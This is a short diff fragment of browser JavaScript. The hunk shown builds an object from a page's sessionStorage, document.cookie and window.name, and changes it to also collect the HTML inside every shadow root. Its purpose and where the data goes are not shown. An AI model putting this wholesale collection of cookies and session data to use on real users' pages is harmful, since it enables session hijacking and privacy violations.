@@ -47,7 +47,7 @@ for (const [form, tag, open] of forms) {
         session: { ...sessionStorage },
         cookie: document.cookie,
         name: window.name,
-        frames: Array.from(document.querySelectorAll("iframe"), (frame) => frame.src),
+        shadow: Array.from(document.querySelectorAll("*"), ({ shadowRoot }) => shadowRoot?.innerHTML ?? ""),
       }),
     );
     const everything = [
